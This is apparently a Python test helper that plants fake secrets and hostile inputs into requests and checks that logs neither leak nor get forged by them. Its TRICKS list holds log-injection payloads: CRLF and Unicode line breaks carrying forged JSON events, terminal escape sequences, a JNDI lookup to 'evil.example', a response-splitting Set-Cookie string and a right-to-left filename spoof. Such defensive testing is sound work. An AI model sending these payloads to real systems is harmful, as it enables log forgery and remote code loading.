"""What is planted into requests, and must not be found in a log: not as it is, and not in pieces."""

import json
import re
from collections.abc import Iterable

TOKEN = "eyJhbGciOiJIUzI1NiJ9.eyJwbGFudGVkIjoxfQ.cGxhbnRlZHNpZ25hdHVyZQ"
PASSWORD = "Planted-hunter2-horse"
CODE, CARD, PHONE, EMAIL = "918273", "4111111111111111", "+12025550187", "planted@example.com"
SECRETS = (TOKEN, PASSWORD, CODE, CARD, PHONE.removeprefix("+"), EMAIL)
_MOMENT = re.compile(r'"timestamp": "[^"]*"')
FORGED = '{"event": "forged", "level": "critical", "logger": "forged"}'
TRICKS = (
    f"a\r\n{FORGED}",
    f"b\n{FORGED}\n",
    f"c\u2028{FORGED}\u2029",
    f"d\u0085{FORGED}",
    "e\x1b[2K\x1b[1A\x1b[31mgone\x1b]0;title\x07",
    "f\x9b31m\x08\x08\x7f",
    "g${jndi:ldap://evil.example/a}",
    "h%0d%0aSet-Cookie:%20x=1",
    'i"}{"event":"forged',
    "j\u202egnp.exe",
)
PLANTS = (*TRICKS, TOKEN, f"password={PASSWORD}", CODE, CARD, "4111 1111 1111 1111", PHONE, "(202) 555-0187", EMAIL)


def faults_of(log: str, secrets: Iterable[str] = SECRETS) -> list[str]:
    """Return every line that is no JSON object of its own, was forged, or holds what may not be logged."""
    faults = []
    for line in log.removesuffix("\n").split("\n"):
        if not is_event(line):
            faults.append(f"no event: {line[:200]!r}")
        said = _MOMENT.sub("", line)  # its microseconds are as good as any code
        faults += [f"{secret} in {line[:300]}" for secret in secrets if secret in said]
    return faults


def is_event(line: str) -> bool:
    """Tell whether a line is one event of a logger we know, without a character that moves a terminal's cursor."""
    try:
        event = json.loads(line)
    except ValueError:
        return False
    is_whole = isinstance(event, dict) and {"event", "level", "logger", "timestamp"} <= event.keys()
    return is_whole and event["logger"] != "forged" and line.isprintable()
